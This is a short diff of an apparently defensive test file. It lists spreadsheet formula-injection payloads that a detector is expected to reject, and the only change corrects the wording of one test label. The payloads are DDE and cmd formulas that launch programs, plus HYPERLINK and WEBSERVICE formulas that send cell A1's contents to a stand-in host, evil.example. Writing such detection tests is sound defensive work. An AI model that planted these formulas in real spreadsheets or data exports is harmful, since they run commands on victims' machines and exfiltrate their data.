@@ -14,7 +14,7 @@ test.each([
 test.each([
   ["=cmd|'/c calc'!A0", "calls another program"],
   ["=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", ""],
-  ['=DDE("cmd","/c calc","x")', "DDE is no function that only computes"],
+  ['=DDE("cmd","/c calc","x")', "DDE is not a function that only computes"],
   ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "HYPERLINK"],
   ['=WEBSERVICE("https://evil.example/?d="&A1)', "WEBSERVICE"],
   ['=_xlfn.WEBSERVICE("https://evil.example")', "_xlfn.WEBSERVICE"],
